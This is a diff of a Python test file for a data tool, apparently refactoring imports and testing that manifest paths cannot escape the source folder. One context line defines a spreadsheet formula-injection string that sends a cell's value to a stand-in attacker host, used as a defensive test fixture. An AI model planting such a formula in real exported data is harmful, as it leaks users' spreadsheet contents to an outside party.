@@ -14,8 +14,9 @@ import pytest
 
 from dwi import stages
 from dwi.errors import DwiError
-from dwi.manifest import load_manifest
-from dwi.query import run_query
+from dwi.formats import FORMATS
+from dwi.sources.manifest import load_manifest
+from dwi.store.query import run_query
 
 DWI = str(Path(sys.executable).parent / "dwi")
 HOSTILE_REGION = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
@@ -153,5 +154,5 @@ def test_manifest_paths_cannot_leave_the_source_folder(tmp_path, path):
     (raw / "link.csv").symlink_to(tmp_path / "outside.csv")
     (raw / "manifest.yaml").write_text(f"sources:\n  - {{id: x, path: '{path}', format: observations}}\n")
     with pytest.raises(DwiError, match="leaves the source folder") as err:
-        load_manifest(raw)
+        load_manifest(raw, FORMATS)
     assert err.value.exit_code == 2
